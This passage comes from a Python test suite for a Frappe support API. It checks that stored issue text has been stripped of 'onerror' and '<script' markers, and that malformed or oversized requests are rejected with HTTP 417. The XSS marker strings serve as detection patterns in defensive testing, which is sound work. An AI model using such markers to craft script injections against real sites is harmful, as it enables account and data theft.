		replies = frappe.get_all("Communication", filters={"reference_name": made["name"]}, pluck="content")
		self.assertEqual(len(replies), 1)
		self.assertIn("Broken", subject)
		self.assertIn("The form is blank", description)
		self.assertIn("still blank", replies[0])
		for text in (subject, description, *replies):
			self.assertNotIn("onerror", text)
			self.assertNotIn("<script", text)

	def test_malformed_input_gets_a_clear_4xx(self):
		caller = self.callers["token"]
		for method, args in (
			(
				"request_upgrade",
				{
					"site": self.mine_("Support Site"),
					"window_start": "next tuesday",
					"window_end": "later",
					"apps": [{"app_name": "frappe", "to_version": "15.90.0"}],
				},
			),
			(
				"request_upgrade",
				{
					"site": self.mine_("Support Site"),
					"window_start": "2027-03-02T10:00:00+01:00",
					"window_end": "2027-03-02T11:00:00+01:00",
					"apps": "not json",
				},
			),
			("raise_issue", {"subject": "x" * 141}),
			("raise_issue", {"subject": "Huge", "description": "y" * 70_000}),
			("raise_issue", {"subject": "Bad priority", "priority": "Urgent!!"}),
			("raise_issue", {"subject": "   "}),
			("reply", {"issue": self.mine_("Support Issue"), "message": "<p> </p>"}),
			("statement_pdf", {"contract": self.mine_("Support Contract"), "month": "October"}),
		):
			response = caller.method("frappe_support.api.v1." + method, **args)
			self.assertEqual(
				response.status_code, 417, f"{method} {args}: {response.status_code} {response.text[:300]}"
			)
			self.assertTrue(response.json().get("_server_messages") or response.json().get("exception"))
		typed = caller.http.post(
			f"{self.served.url}{API}raise_issue", json={"subject": ["a", "list"]}, timeout=30
		)
		self.assertEqual(typed.status_code, 417, typed.text[:300])
		listed = caller.get(API + "list_issues", status="Bogus")
		self.assertEqual(listed.status_code, 417)
		self.fresh()
		self.assertEqual(
			frappe.db.count(
				"Support Issue", {"customer": self.mine, "subject": ("in", ("Huge", "Bad priority"))}
			),
			0,
		)
